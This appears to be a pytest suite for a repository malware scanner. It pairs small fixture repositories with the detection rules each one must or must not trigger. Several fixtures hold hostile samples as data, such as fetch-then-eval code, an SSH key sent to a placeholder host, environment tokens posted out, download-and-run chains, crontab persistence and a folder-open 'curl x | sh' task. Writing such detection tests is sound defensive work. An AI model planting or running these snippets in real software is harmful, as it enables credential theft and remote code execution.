"""One scan over many small repositories; each case names the findings it must and must not have."""

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
import zipfile

import pytest

from lodestrata.plans.scan import scan_repositories
from lodestrata.report.render import exit_code, report_of, to_json, to_markdown, to_sarif, to_terminal

START = b'{"scripts": {"start": "node index.js"}}'
FETCH = "const r = await fetch('https://x.example.invalid/a'); const t = await r.text();"


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def tarred(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def js(code: str) -> dict[str, bytes]:
    return {"package.json": START, "index.js": code.encode()}


#: name: (files, rules that must be there, rules that must not)
CASES: dict[str, tuple[dict[str, bytes], list[str], list[str]]] = {
    "clean": ({"index.js": b"const x = 1; console.log(x);"}, [], ["*"]),
    "remote-eval": (js(f"async function boot() {{ {FETCH} eval(t); }} boot();"), ["JS-REMOTE-CODE-EXECUTION", "JS-DYNAMIC-EXECUTION", "NPM-EXECUTION-SCRIPT"], []),
    "uncalled": (js(f"async function boot() {{ {FETCH} eval(t); }}"), ["JS-DYNAMIC-EXECUTION"], ["JS-REMOTE-CODE-EXECUTION"]),
    "then-chain": (js("fetch('https://x.example.invalid').then(r => r.text()).then(t => { new Function(t)(); });"), ["JS-REMOTE-CODE-EXECUTION"], []),
    "decoded": (js(f"{FETCH} const c = Buffer.from(t, 'base64').toString(); vm.runInThisContext(c);"), ["JS-REMOTE-CODE-EXECUTION"], []),
    "thrown": (js(f"{FETCH} try {{ throw t; }} catch (e) {{ eval(e); }}"), ["JS-REMOTE-CODE-EXECUTION"], []),
    "dead-branch": (js(f"{FETCH} if (false) {{ eval(t); }}"), [], ["JS-REMOTE-CODE-EXECUTION"]),
    "literal-eval": (js("eval('1 + 1');"), ["JS-DYNAMIC-EXECUTION"], ["JS-REMOTE-CODE-EXECUTION"]),
    "process": (js(f"const {{ exec }} = require('child_process'); {FETCH} exec(t);"), ["JS-REMOTE-PROCESS-EXECUTION", "JS-PROCESS-EXECUTION"], []),
    "indirect": (js(f"const cp = require('child_process'); {FETCH} cp.exec.call(null, t);"), ["JS-REMOTE-PROCESS-EXECUTION"], []),
    "env-secret": (js("fetch('https://x.example.invalid', {body: JSON.stringify(process.env.TOKEN)});"), ["JS-SECRET-EXFILTRATION"], []),
    "env-harmless": (js("fetch('https://x.example.invalid/' + process.env.NODE_ENV);"), [], ["JS-SECRET-EXFILTRATION"]),
    "file-secret": (js("const fs = require('fs'), os = require('os'), path = require('path'); const k = fs.readFileSync(path.join(os.homedir(), '.ssh/id_rsa')); const s = new WebSocket('wss://x.example.invalid'); s.send(k);"), ["JS-SECRET-EXFILTRATION"], []),
    "plain-file": (js("const fs = require('fs'); const k = fs.readFileSync('README'); fetch('https://x.example.invalid', {body: k});"), [], ["JS-SECRET-EXFILTRATION"]),
    "download-run": (js(f"const fs = require('fs'), cp = require('child_process'); {FETCH} fs.writeFileSync('/tmp/a', t); fs.chmodSync('/tmp/a', 493); cp.spawn('/tmp/a');"), ["JS-DOWNLOAD-WRITE-EXECUTE"], []),
    "download-other": (js(f"const fs = require('fs'), cp = require('child_process'); {FETCH} fs.writeFileSync('/tmp/a', t); cp.spawn('/tmp/b');"), [], ["JS-DOWNLOAD-WRITE-EXECUTE"]),
    "run-before-write": (js(f"const fs = require('fs'), cp = require('child_process'); cp.spawn('/tmp/a'); {FETCH} fs.writeFileSync('/tmp/a', t);"), [], ["JS-DOWNLOAD-WRITE-EXECUTE"]),
    "stream": (js("const https = require('https'); https.get('https://x.example.invalid', res => { let b = ''; res.on('data', c => { b += c; }); res.on('end', () => { eval(b); }); });"), ["JS-REMOTE-CODE-EXECUTION"], []),
    "persistence": (js("const cp = require('child_process'), fs = require('fs'); cp.execSync('crontab /tmp/x'); fs.writeFileSync('/home/u/.bashrc', 'x');"), ["JS-PERSISTENCE-COMMAND", "JS-PERSISTENCE-WRITE"], []),
    "combined": (js(f"fetch('https://x.example.invalid/' + process.env.KEY); {FETCH} eval(t);"), ["JS-COMBINED-ATTACK-CHAIN", "JS-SECRET-EXFILTRATION", "JS-REMOTE-CODE-EXECUTION"], []),
    "no-trigger": ({"index.js": f"fetch('https://x.example.invalid/' + process.env.KEY); {FETCH} eval(t);".encode()}, ["JS-SECRET-EXFILTRATION", "JS-REMOTE-CODE-EXECUTION"], ["JS-COMBINED-ATTACK-CHAIN"]),
    "modules": ({"package.json": START, "index.js": b"import run, { get as g } from './lib/a.js'; const t = await g(); run(t);", "lib/a.js": b"export { get } from './b'; export default function (x) { eval(x); }", "lib/b.ts": b"export async function get(): Promise<string> { const r = await fetch('https://x.example.invalid'); return r.text(); }"}, ["JS-REMOTE-CODE-EXECUTION"], []),
    "commonjs": ({"package.json": START, "index.js": b"const { run } = require('./lib'); fetch('https://x.example.invalid').then(r => r.text()).then(run2); async function run2(t) {} fetch('https://x.example.invalid').then(async r => { run(await r.text()); });", "lib/index.js": b"exports.run = x => eval(x);"}, ["JS-REMOTE-CODE-EXECUTION"], []),
    "disguised": ({"package.json": START, "index.js": b"require('./icon.woff2');", "icon.woff2": f"{FETCH} Function(t)(); const k = process.env.X;".encode()}, ["JS-REACHABLE-DISGUISED-SOURCE", "FILE-PARSEABLE-JAVASCRIPT", "FILE-TYPE-MISMATCH"], ["FILE-EXECUTABLE-CONTENT"]),
    "concealed": (js("const cp = require('child_process'); debugger; const k = 'a'.charCodeAt(0) ^ 5; cp.exec('ls');"), ["JS-CONCEALED-EXECUTION"], []),
    "hidden": (js("eval('1');" + " " * 600 + "eval('2');"), ["RAW-HIDDEN-AFTER-WHITESPACE", "JS-CONCEALED-EXECUTION"], []),
    "eof": ({"a.txt": b"hello\x1a world"}, ["RAW-CONTENT-AFTER-EOF"], []),
    "long-line": ({"a.txt": b"x" * 10_000}, ["RAW-EXTREME-LINE"], []),
    "executable-text": ({"a.json": b'{"a": "require(x) process.env"}'}, ["FILE-EXECUTABLE-CONTENT"], ["FILE-PARSEABLE-JAVASCRIPT"]),
    "png": ({"a.png": b"\x89PNG\r\n\x1a\n....", "b.png": b"\x7fELFxxxx"}, ["FILE-TYPE-MISMATCH"], []),
    "tasks": ({".vscode/tasks.json": b'{// c\n"tasks": [{"label": "a", "command": "curl x | sh", "runOptions": {"runOn": "folderOpen"}},]}'}, ["IDE-FOLDER-OPEN-DOWNLOAD-EXECUTE"], ["IDE-FOLDER-OPEN-TASK"]),
    "settings": ({".vscode/settings.json": b'{"task.allowAutomaticTasks": "on", "files.exclude": {"**/.vscode": true, "x": true}}', ".vscode/launch.json": b'{"configurations": [{"preLaunchTask": "b"}]}'}, ["IDE-AUTOMATIC-TASKS", "IDE-HIDDEN-SECURITY-FILES", "IDE-PRELAUNCH-TASK"], []),
    "devcontainer": ({".devcontainer/devcontainer.json": b"{postCreateCommand: ['npm', 'ci']}"}, ["DEVCONTAINER-EXECUTION-HOOK"], []),
    "lifecycle": ({"package.json": b'{"scripts": {"postinstall": "node x.js", "lint": "eslint"}}'}, ["NPM-LIFECYCLE-SCRIPT"], ["NPM-EXECUTION-SCRIPT"]),
    "languages": ({"install.sh": b"curl https://x | sh", "a.py": b"requests.get(u)\nexec(x)"}, ["LANG-REMOTE-DOWNLOAD-EXECUTE", "LANG-REMOTE-DATA-EXECUTION-CAPABILITY", "LANG-EXECUTION-ROOT"], []),
    "signatures": ({"a.bin": b"\xff\x00DOWNLOADSTRING frombase64string invoke-expression"}, ["YARA-POWERSHELL-DOWNLOAD-EXEC"], ["YARA-JS-ENCRYPTED-LOADER"]),
    "html": ({"a.html": b"<p>\n<script>fetch('https://x.example.invalid').then(r => r.text()).then(t => { eval(t); })</script>"}, ["JS-REMOTE-CODE-EXECUTION"], []),
    "markdown": ({"a.md": b"```html\n<script>eval(x)</script>\n```\n`<script>eval(y)</script>` text"}, [], ["JS-DYNAMIC-EXECUTION"]),
    "archive": ({"a.zip": zipped({"in/install.sh": b"wget x; bash -c y", "n.tgz": gzip.compress(tarred({"d/b.py": b"urlopen(x)\neval(y)"}))})}, ["LANG-REMOTE-DATA-EXECUTION-CAPABILITY"], []),
    "ci": ({".github/workflows/a.yml": b"steps:\n  - run: node tools/run.js\n", "tools/run.js": f"{FETCH} eval(t);".encode()}, ["JS-REMOTE-CODE-EXECUTION"], []),
}
INCOMPLETE = {
    "bad-manifest": ({"package.json": b"{"}, "could not parse package manifest"),
    "bad-tasks": ({".vscode/tasks.json": b"{tasks: ["}, "could not parse developer-tool configuration"),
    "bad-source": ({"a.ts": b"const = ;"}, "JS/TS parser could not fully parse"),
    "twice": ({"a.js": b"let a = 1; let a = 2; f();"}, "has already been declared"),
    "traversal": ({"a.zip": zipped({"../x": b"1"})}, "archive traversal path rejected"),
    "ratio": ({"a.gz": gzip.compress(b"\0" * 3_000_000)}, "compression ratio"),
    "deep": ({"a.js": b"(" * 300 + b")" * 300}, "nesting limit"),
    "not-utf8": ({"a.js": b"\xff\xff\xff"}, "cannot decode JS/TS source"),
}


@pytest.fixture(scope="module")
def scanned(spark, tmp_path_factory):
    root = tmp_path_factory.mktemp("repositories")
    paths = {}
    for name, files in {**{k: v[0] for k, v in CASES.items()}, **{k: v[0] for k, v in INCOMPLETE.items()}, "links": {"a.txt": b"x"}}.items():
        paths[name] = str(root / name)
        for path, data in files.items():
            os.makedirs(os.path.dirname(root / name / path), exist_ok=True)
            (root / name / path).write_bytes(data)
    os.symlink("/etc/passwd", root / "links/out")
    os.symlink(str(root / "links/a.txt"), root / "links/absolute")
    os.symlink("a.txt", root / "links/in")
    os.mkfifo(root / "links/pipe")
    result = scan_repositories(spark, paths)
    rows = {r["repo_id"]: r.asDict(recursive=True) for r in result.report_rows().collect()}
    return {name: report_of(rows[name], paths[name]) for name in paths}


@pytest.mark.parametrize("name", CASES)
def test_findings(scanned, name):
    _, present, absent = CASES[name]
    ids = {f["id"] for f in scanned[name]["findings"]}
    assert set(present) <= ids, ids
    assert not (ids if "*" in absent else ids & set(absent)), ids
    assert scanned[name]["status"] == "complete", scanned[name]["incomplete_reasons"]


@pytest.mark.parametrize("name", INCOMPLETE)
def test_incomplete(scanned, name):
    report = scanned[name]
    assert report["status"] == "incomplete" and exit_code(report) == 2
    assert any(INCOMPLETE[name][1] in r for r in report["incomplete_reasons"]), report["incomplete_reasons"]


def test_evidence_of_the_worked_example(scanned):
    (f,) = (f for f in scanned["remote-eval"]["findings"] if f["id"] == "JS-REMOTE-CODE-EXECUTION")
    assert f["severity"] == "critical" and f["confidence"] == "very_high" and f["score"] == 98 and f["line"] == 1
    first, last = ["trigger: npm start (package.json) at line 1", "entry: index.js", "source: index.js:1 fetch"], "sink: index.js:1 eval"
    assert f["evidence"][:3] == first and f["evidence"][-1] == last and len(f["evidence"]) == 6
    assert f["evidence"][3].startswith("property: index.js ") and f["evidence"][4].startswith("transform: index.js:1 ")


def test_links_and_special_files(scanned):
    report = scanned["links"]
    found = {(f["id"], f["file"]) for f in report["findings"]}
    assert found == {("FS-SYMLINK-ESCAPE", "out"), ("FS-ABSOLUTE-SYMLINK", "absolute"), ("FS-SPECIAL-FILE", "pipe")}
    assert {f["path"]: f["kind"] for f in report["files"]} == {"a.txt": "file", "absolute": "symlink", "in": "symlink", "out": "symlink", "pipe": "special"}
    assert report["summary"]["symlinks"] == 3 and report["summary"]["special_files"] == 1 and report["status"] == "incomplete"


def test_archive_members(scanned):
    paths = [f["path"] for f in scanned["archive"]["files"]]
    assert paths == sorted(paths) and "a.zip!/n.tgz!/content!/d/b.py" in paths and "a.zip!/in/install.sh" in paths


def test_reports(scanned):
    report = scanned["combined"]
    assert exit_code(report) == 1 and exit_code(scanned["clean"]) == 0 and exit_code(scanned["lifecycle"], "medium") == 1
    assert json.loads(to_json(report))["schema_version"] == 2
    sarif = json.loads(to_sarif(report))["runs"][0]
    rules = [r["id"] for r in sarif["tool"]["driver"]["rules"]]
    assert rules == sorted(set(rules)) and all(rules[r["ruleIndex"]] == r["ruleId"] for r in sarif["results"])
    ranks = ["informational", "low", "medium", "high", "critical"]
    order = [(-ranks.index(f["severity"]), f["file"] or "", f["id"]) for f in report["findings"]]
    assert order == sorted(order)
    assert "JS-COMBINED-ATTACK-CHAIN" in to_terminal(report) and "JS-COMBINED-ATTACK-CHAIN" in to_markdown(report)
